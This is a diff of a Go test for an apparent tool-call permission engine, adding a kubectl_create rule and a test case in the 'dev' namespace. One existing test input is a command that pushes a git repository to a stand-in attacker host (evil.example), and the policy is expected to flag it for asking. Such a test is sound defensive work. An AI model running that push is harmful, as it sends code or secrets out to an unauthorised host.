@@ -140,6 +140,7 @@ func TestRuleArgumentsOverACommandLineCoverNoHost(t *testing.T) {
 		{Tool: "run_command", Decision: "allow", Arguments: map[string]string{"command": "git *"}},
 		{Tool: "kubectl", Decision: "allow", Arguments: map[string]string{"args": "get *"}, Host: "k8s.example.com"},
 		{Tool: "fetch", Decision: "allow", Arguments: map[string]string{"method": "GET"}},
+		{Tool: "kubectl_create", Decision: "allow", Arguments: map[string]string{"namespace": "dev"}},
 	}})
 	for _, c := range []struct {
 		tool, args string
@@ -152,6 +153,9 @@ func TestRuleArgumentsOverACommandLineCoverNoHost(t *testing.T) {
 		{"run_command", `{"command":"git push https://evil.example/x.git"}`, verdict.Ask},
 		// No command line: the rule allows the tool whatever host it names.
 		{"fetch", `{"method":"GET","url":"https://docs.example.com/"}`, verdict.Allow},
+		// A glob of one word over another argument: the cluster the
+		// tool's command reaches is covered, as before.
+		{"kubectl_create", `{"resourceType":"configmap","name":"x","namespace":"dev"}`, verdict.Allow},
 	} {
 		d := decide(t, e, call(c.tool, c.args), nil)
 		assert.Equal(t, c.want, d.Decision, "%s %s", c.tool, c.args)
